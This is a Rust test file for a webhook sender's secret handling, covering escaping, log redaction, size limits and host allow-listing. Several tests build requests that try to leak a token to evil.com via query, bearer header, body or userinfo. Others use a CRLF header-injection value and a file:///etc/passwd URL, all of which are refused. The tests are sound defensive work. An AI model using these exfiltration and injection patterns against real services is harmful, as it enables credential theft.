//! What goes out and what is kept of it, for requests with secrets in all their places.

#![allow(clippy::unwrap_used, clippy::indexing_slicing)]

use proptest::{collection::vec, prelude::*, sample::select};
use serde_json::{Value, json};

use super::*;
use crate::model::{Auth, Blame, FailReason};

const SLACK: &str = "https://hooks.slack.com/services/T000/B000/aBcDeFgHiJkLmNoP";

/// A channel whose settings are `url` and some secrets, and the request that an adapter makes of the handles.
struct Case {
    settings: Value,
    hosts: Vec<String>,
    listed: Option<Vec<String>>,
    options: Options,
    payload: Bytes,
}

impl Case {
    fn new(settings: Value) -> Self {
        Self {
            settings,
            hosts: vec![],
            listed: None,
            options: Options::default(),
            payload: Bytes::from_static(b"{\"as\": \"it came\"}"),
        }
    }

    fn secrets(&self) -> Secrets {
        let names = self.settings.as_object().unwrap().keys().filter(|name| *name != "url");
        Secrets::new(&self.settings, &names.map(|name| format!("/{name}")).collect()).unwrap()
    }

    fn prepare(&self, adapter: impl FnOnce(&dyn Fn(&str) -> String) -> Request) -> Result<Prepared, Refused> {
        let mut random = 0;
        let sealed = self.secrets().seal(|| {
            random += 1;
            random
        });
        let settings: Value = serde_json::from_str(&sealed.settings_json).unwrap();
        let request = adapter(&|name| settings[name].as_str().unwrap().to_owned());
        let to = Destination {
            options: &self.options,
            hosts: &self.hosts,
            listed: self.listed.as_deref(),
            delivery_id: "dlv_1",
            payload: &self.payload,
            now: 0,
        };
        prepare(&request, &sealed, &to)
    }
}

fn post(url: impl Into<String>) -> Request {
    Request { method: "POST".to_owned(), url: url.into(), headers: vec![], body: Body::Empty, auth: None }
}

fn with_body(kind: &str, body: String) -> Request {
    let headers = if kind.is_empty() { vec![] } else { vec![("Content-Type".to_owned(), kind.to_owned())] };
    Request { headers, body: Body::Text(body), ..post("https://a.com/") }
}

#[test]
fn a_secret_url_goes_out_whole_and_is_logged_by_its_host() {
    let case = Case::new(json!({"hook": SLACK}));
    let prepared = case.prepare(|secret| post(secret("hook"))).unwrap();
    assert_eq!(prepared.url.as_str(), SLACK);
    assert_eq!(prepared.sent(&case.secrets()).url, "https://hooks.slack.com/[redacted]");
    let longer = case.prepare(|secret| post(format!("{}/x?wait=true#f", secret("hook")))).unwrap();
    assert_eq!(longer.url.as_str(), format!("{SLACK}/x?wait=true"));
    assert!(!format!("{prepared:?}").contains("services"));
}

#[test]
fn what_an_adapter_asks_for_without_measure_is_refused() {
    let case = Case::new(json!({"url": "https://a.com", "key": "k".repeat(60_000)}));
    let refused = |request: &dyn Fn(&str) -> Request| {
        let refused = case.prepare(|secret| request(&secret("key"))).unwrap_err();
        assert_eq!((refused.blame, refused.reason), (Blame::Adapter, FailReason::Adapter));
        refused.message
    };
    let body = |count| move |key: &str| with_body("", key.repeat(count));
    assert_eq!(case.prepare(|secret| body(100)(&secret("key"))).unwrap().body.len(), 100 * 60_000);
    let places = "the request has secrets in more than 100 places";
    assert_eq!(refused(&body(101)), places);
    let bytes = |key: &str| Request { body: Body::Bytes(key.repeat(220_000).into_bytes()), ..post("https://a.com/") };
    assert_eq!(refused(&bytes), places);
    // In all places together.
    let spread = |key: &str| {
        let headers = (0..60).map(|number| (format!("x-{number}"), key.to_owned())).collect();
        Request { headers, body: Body::Text(key.repeat(41)), ..post("https://a.com/") }
    };
    assert_eq!(refused(&spread), places);
    let signing = |key: &str| {
        let auth = Some(Auth::StandardWebhooks(vec![key.to_owned(); 300_000]));
        Request { auth, ..with_body("", "x".repeat(1 << 20)) }
    };
    assert!(refused(&signing).ends_with("with 300000 secrets: more than 16"));
    let headers = |_: &str| Request { headers: vec![("x".to_owned(), "y".to_owned()); 129], ..post("https://a.com/") };
    assert_eq!(refused(&headers), "the request has too many headers");
    let long = |_: &str| post(format!("https://a.com/{}", "x".repeat(16 * 1024)));
    assert_eq!(refused(&long), "the URL is longer than 16384 bytes");
    // As it is filled.
    assert_eq!(refused(&|key: &str| post(format!("https://a.com/{key}"))), "the URL is longer than 16384 bytes");
    let method = |_: &str| Request { method: "M".repeat(65), ..post("https://a.com/") };
    assert_eq!(refused(&method), "the method is longer than 64 bytes");
}

#[test]
fn a_secret_inside_a_url_is_encoded_as_a_component() {
    let case = Case::new(json!({"url": "https://a.com", "token": "12:A/b?c#d%2F e&f", "key": "a b&c=d+é"}));
    let prepared = case
        .prepare(|secret| post(format!("https://a.com/bot{}/send?key={}&x=1", secret("token"), secret("key"))))
        .unwrap();
    let sent = "https://a.com/bot12:A%2Fb%3Fc%23d%252F%20e&f/send?key=a%20b%26c%3Dd%2B%C3%A9&x=1";
    assert_eq!(prepared.url.as_str(), sent);
    assert_eq!(prepared.sent(&case.secrets()).url, "https://a.com/bot[redacted]/send?key=[redacted]&x=1");
}

#[test]
fn a_secret_in_a_body_is_escaped_for_where_it_stands() {
    let case = Case::new(json!({"url": "https://a.com", "token": "q\"u\\o\n&=é"}));
    for (kind, text) in [
        ("application/json", r#"q\"u\\o\n&=é"#),
        ("Application/Problem+JSON; charset=utf-8", r#"q\"u\\o\n&=é"#),
        ("application/x-ndjson", r#"q\"u\\o\n&=é"#),
        ("application/x-www-form-urlencoded", "q%22u%5Co%0A%26%3D%C3%A9"),
        ("text/plain", "q\"u\\o\n&=é"),
        ("", "q\"u\\o\n&=é"),
    ] {
        let prepared = case.prepare(|secret| with_body(kind, format!("<{}>", secret("token")))).unwrap();
        assert_eq!(prepared.body, format!("<{text}>"), "{kind}");
        assert_eq!(prepared.sent(&case.secrets()).body.unwrap(), "<[redacted]>", "{kind}");
    }
    let bytes = case.prepare(|secret| {
        let body = [b"\xff", secret("token").as_bytes()].concat();
        Request { body: Body::Bytes(body), ..post("https://a.com") }
    });
    assert_eq!(bytes.unwrap().body, [b"\xff", "q\"u\\o\n&=é".as_bytes()].concat());
}

#[test]
fn a_secret_in_a_header_goes_out_as_it_is_and_cannot_break_out() {
    let case = Case::new(json!({"url": "https://a.com", "token": "t0k \"é", "broken": "x\r\nevil: 1"}));
    let with = |name: &str, value: String| Request { headers: vec![(name.to_owned(), value)], ..post("https://a.com") };
    let prepared = case.prepare(|secret| with("X-Token", format!("v {}", secret("token")))).unwrap();
    assert_eq!(prepared.headers["x-token"].as_bytes(), "v t0k \"é".as_bytes());
    assert!(prepared.headers["x-token"].is_sensitive());
    let shown = prepared.sent(&case.secrets());
    assert!(shown.headers.contains(&("x-token".to_owned(), "v [redacted]".to_owned())), "{shown:?}");
    let refused = case.prepare(|secret| with("x", secret("broken"))).unwrap_err();
    assert_eq!(refused.blame, Blame::Settings);
    assert!(!refused.message.contains("evil"));
}

#[test]
fn the_payload_goes_out_byte_for_byte_without_a_copy() {
    let case = Case::new(json!({"url": "https://a.com"}));
    let prepared = case.prepare(|_| Request { body: Body::Payload, ..post("https://a.com") }).unwrap();
    assert_eq!(prepared.body.as_ptr(), case.payload.as_ptr());
    let names: Vec<&str> = prepared.headers.keys().map(HeaderName::as_str).collect();
    assert_eq!(names, ["herald-delivery-id", "user-agent", "accept"]);
    assert_eq!(prepared.headers["herald-delivery-id"], "dlv_1");
    assert!(prepared.headers["user-agent"].to_str().unwrap().starts_with("Herald/"));
}

#[test]
fn the_adapters_own_user_agent_stays() {
    let case = Case::new(json!({"url": "https://a.com"}));
    let headers = vec![("User-Agent".to_owned(), "mine".to_owned())];
    let prepared = case.prepare(|_| Request { headers, ..post("https://a.com") }).unwrap();
    assert_eq!(prepared.headers["user-agent"], "mine");
}

/// What an adapter does with its handles.
type Make = fn(&dyn Fn(&str) -> String) -> Request;

#[test]
fn no_secret_is_put_into_a_request_to_another_host() {
    let mut case = Case::new(json!({"url": "https://a.com", "token": "hunter2hunter2", "hook": SLACK}));
    let tries: [Make; 8] = [
        |secret| post(format!("https://evil.com/?{}", secret("token"))),
        |secret| Request { auth: Some(Auth::Bearer(secret("token"))), ..post("https://evil.com/") },
        |secret| Request { body: Body::Text(secret("token")), ..post("https://evil.com/") },
        |secret| post(format!("https://{}.evil.com/", secret("token"))),
        |secret| post(format!("{}.evil.com/", secret("token"))),
        |secret| post(format!("https://{}@evil.com/", secret("token"))),
        |secret| post(format!("https://user:{}@a.com/", secret("token"))),
        |secret| post(format!("https://a.com:{}/", secret("token"))),
    ];
    for (index, make) in tries.iter().enumerate() {
        let refused = case.prepare(make).unwrap_err();
        assert!(!format!("{refused:?}").contains("hunter2"), "{index}: {refused:?}");
    }
    // A URL without a path, continued by the adapter into another host.
    case.settings = json!({"base": "https://a.com"});
    for rest in [".evil.com/", "@evil.com/"] {
        assert_eq!(case.prepare(|secret| post(secret("base") + rest)).unwrap_err().reason, FailReason::Blocked);
    }
    case.settings = json!({"url": "https://a.com", "token": "hunter2hunter2"});
    let refused = case.prepare(tries[0]).unwrap_err();
    assert_eq!((refused.blame, refused.reason), (Blame::Adapter, FailReason::Blocked));
    assert_eq!(refused.message, "evil.com is not a host of this channel: its settings point at a.com");
}

#[test]
fn no_secret_is_put_into_a_request_to_a_host_that_the_operator_does_not_list() {
    let mut case = Case::new(json!({"url": "https://a.com", "token": "hunter2hunter2", "hook": SLACK}));
    let tries: [Make; 6] = [
        |secret| post(format!("https://a.com/?{}", secret("token"))),
        |secret| Request { auth: Some(Auth::Bearer(secret("token"))), ..post("https://a.com/") },
        |secret| Request { body: Body::Text(secret("token")), ..post("https://a.com/") },
        |secret| Request { headers: vec![("x-token".to_owned(), secret("token"))], ..post("https://a.com/") },
        // The host itself stands in a secret.
        |secret| post(secret("hook")),
        |secret| post(format!("{}/{}", secret("hook"), secret("token"))),
    ];
    for (index, make) in tries.iter().enumerate() {
        case.listed = None;
        assert!(case.prepare(make).is_ok(), "{index}");
        case.listed = Some(vec!["*.a.com".to_owned(), "slack.com".to_owned()]);
        let refused = case.prepare(make).unwrap_err();
        assert_eq!(refused.reason, FailReason::Blocked, "{index}");
        assert!(refused.hint.as_ref().unwrap().contains(r#"hosts = ["*.a.com", "slack.com", "#), "{refused:?}");
        let shown = format!("{refused:?}");
        assert!(!shown.contains("hunter2") && !shown.contains("services"), "{index}: {shown}");
    }
}

#[test]
fn what_an_adapter_declares_counts_more_than_where_the_settings_point() {
    let mut case = Case::new(json!({"hook": SLACK}));
    case.hosts = vec!["*.slack.com".to_owned()];
    assert!(case.prepare(|secret| post(secret("hook"))).is_ok());
    case.hosts = vec!["discord.com".to_owned()];
    let refused = case.prepare(|secret| post(secret("hook"))).unwrap_err();
    assert_eq!((refused.blame, refused.reason), (Blame::Settings, FailReason::Blocked));
    assert!(!format!("{refused:?}").contains("services"));
}

#[test]
fn a_handle_in_an_events_text_stays_text() {
    let case = Case::new(json!({"url": "https://a.com", "token": "hunter2hunter2"}));
    let forged = format!("heraldsecret{}", "b".repeat(26));
    let prepared = case.prepare(|_| with_body("application/json", forged.clone())).unwrap();
    assert_eq!(prepared.body, forged);
}

#[test]
fn what_is_no_request_is_the_adapters_fault() {
    let case = Case::new(json!({"url": "https://a.com", "token": "not a url"}));
    let with = |name: &str, value: &str| Request {
        headers: vec![(name.to_owned(), value.to_owned())],
        ..post("https://a.com")
    };
    for request in [
        Request { method: "PO ST".to_owned(), ..post("https://a.com") },
        Request { method: "CONNECT".to_owned(), ..post("https://a.com") },
        post("a.com/x"),
        post("ftp://a.com/x"),
        post("file:///etc/passwd"),
        post("https://a.com/\r\nx"),
        post("https://"),
        with("a b", "x"),
        with("a", "x\r\nb: c"),
        with("a", "x\0"),
        with("Host", "evil.com"),
        with("Content-Length", "3"),
        with("transfer-encoding", "chunked"),
        with("Proxy-Authorization", "x"),
        with("Connection", "close"),
        Request { headers: vec![("a".to_owned(), "b".to_owned()); 40_000], ..post("https://a.com") },
    ] {
        let shown = format!("{:.80}", format!("{request:?}"));
        let refused = case.prepare(|_| request).unwrap_err();
        assert_eq!((refused.blame, refused.reason), (Blame::Adapter, FailReason::Adapter), "{shown} {refused}");
    }
    let refused = case.prepare(|secret| post(secret("token"))).unwrap_err();
    assert_eq!(refused.blame, Blame::Settings);
}

#[test]
fn a_long_body_is_cut_in_the_log_with_a_note() {
    let case = Case::new(json!({"url": "https://a.com"}));
    let prepared = case.prepare(|_| with_body("", "x".repeat(70_000))).unwrap();
    let shown = prepared.sent(&case.secrets()).body.unwrap();
    assert!(shown.ends_with("x\n[the first 64 KiB of 70000 bytes]"));
    assert_eq!(prepared.body.len(), 70_000);
}

#[test]
fn a_credential_is_never_in_the_log() {
    let case = Case::new(json!({"url": "https://a.com", "token": "hunter2hunter2"}));
    let auth = |secret: &dyn Fn(&str) -> String| Some(Auth::Basic("me".to_owned(), secret("token")));
    let prepared = case.prepare(|secret| Request { auth: auth(secret), ..post("https://a.com") }).unwrap();
    let shown = prepared.sent(&case.secrets());
    assert!(shown.headers.contains(&("authorization".to_owned(), "[redacted]".to_owned())));
}

/// Of a payload: text, bytes that are none, a secret in whole and in part.
const PARTS: &[&[u8]] = &[b"text ", b"\xc3\xa9\xef\xbf\xbd", b"\xff", b"hunter2hunter2", b"hunter2"];

proptest! {
    #[test]
    fn only_a_payload_that_would_be_kept_as_it_is_is_left_out(
        parts in vec(select(PARTS), 0..4),
        more in select(vec![0, redact::EXCERPT - 30, redact::EXCERPT]),
    ) {
        let mut case = Case::new(json!({"url": "https://a.com", "token": "hunter2hunter2"}));
        case.payload = Bytes::from([parts.concat(), vec![b'x'; more]].concat());
        let prepared = case.prepare(|_| Request { body: Body::Payload, ..post("https://a.com") }).unwrap();
        let kept = prepared.shown_body(&case.secrets());
        let left_out = kept.as_bytes() == case.payload;
        prop_assert_eq!(prepared.sent(&case.secrets()).body, (!left_out).then_some(kept));
    }
}
